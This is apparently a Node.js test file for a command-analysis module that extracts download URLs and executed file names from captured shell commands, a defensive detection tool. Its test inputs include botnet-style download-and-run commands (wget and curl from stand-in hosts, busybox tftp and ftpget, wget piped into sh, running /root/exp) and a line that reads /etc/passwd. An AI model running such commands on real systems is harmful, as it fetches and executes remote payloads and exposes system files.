import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { analyseCommand, baseName } from './command-analysis.js';

describe('analyseCommand', () => {
  test('wget with a URL is a fetch named after the last path segment', () => {
    const f = analyseCommand('cd /tmp; wget http://198.51.100.1:8080/bins/x86?v=1');
    assert.deepEqual(f.fetches, [{ url: 'http://198.51.100.1:8080/bins/x86?v=1', name: 'x86' }]);
    assert.deepEqual(f.runs, []);
  });

  test('-O and -o name the local file; curl and wget both count', () => {
    assert.deepEqual(analyseCommand('wget http://a.example/z -O .y').fetches, [{ url: 'http://a.example/z', name: '.y' }]);
    assert.deepEqual(analyseCommand('curl -o /tmp/k http://a.example/z').fetches, [{ url: 'http://a.example/z', name: 'k' }]);
    assert.deepEqual(analyseCommand('wget --output-document=/tmp/q https://a.example/z').fetches, [{ url: 'https://a.example/z', name: 'q' }]);
  });

  test('busybox tftp and ftpget become tftp:// and ftp:// URLs', () => {
    assert.deepEqual(analyseCommand('busybox tftp -g -r m.sh 198.51.100.20').fetches, [{ url: 'tftp://198.51.100.20/m.sh', name: 'm.sh' }]);
    assert.deepEqual(analyseCommand('tftp 198.51.100.21 -c get n.sh').fetches, [{ url: 'tftp://198.51.100.21/n.sh', name: 'n.sh' }]);
    assert.deepEqual(analyseCommand('busybox ftpget -v -u anonymous -p anonymous -P 2121 198.51.100.22 f.bin /pub/f.bin').fetches, [
      { url: 'ftp://198.51.100.22:2121/pub/f.bin', name: 'f.bin' },
    ]);
  });

  test('runs: paths, interpreters, wrappers; bare words and chmod are not runs', () => {
    assert.deepEqual(analyseCommand('chmod +x x; ./x').runs, ['x']);
    assert.deepEqual(analyseCommand('/tmp/./xcsyn\n').runs, ['xcsyn']);
    assert.deepEqual(analyseCommand('nohup /root/exp > /dev/null 2>&1 &').runs, ['exp']);
    assert.deepEqual(analyseCommand('sh x.sh; bash -x y.sh; perl n3').runs, ['x.sh', 'y.sh', 'n3']);
    assert.deepEqual(analyseCommand('busybox sh z.sh').runs, ['z.sh']);
    assert.deepEqual(analyseCommand('chmod 777 tfhy; tfhy; uname -a').runs, []);
  });

  test('a fetch piped into a shell runs what it fetched', () => {
    const f = analyseCommand('wget -qO- http://198.51.100.30/i.sh | sh');
    assert.deepEqual(f.fetches, [{ url: 'http://198.51.100.30/i.sh', name: 'i.sh' }]);
    assert.deepEqual(f.runs, ['i.sh']);
    assert.deepEqual(analyseCommand('cat /etc/passwd | sh').runs, []);
  });

  test('plain commands give nothing, and huge input is cut, not choked on', () => {
    assert.deepEqual(analyseCommand('uname -a; cat /proc/cpuinfo'), { fetches: [], runs: [] });
    const huge = `${'A'.repeat(200_000)}; wget http://a.example/late`;
    assert.deepEqual(analyseCommand(huge).fetches, []);
  });

  test('baseName', () => {
    assert.equal(baseName('http://a.example/dir/file.sh?x=1#f'), 'file.sh');
    assert.equal(baseName('http://a.example/'), '');
    assert.equal(baseName('/tmp/./x'), 'x');
    assert.equal(baseName('/dev/null'), 'null');
  });
});
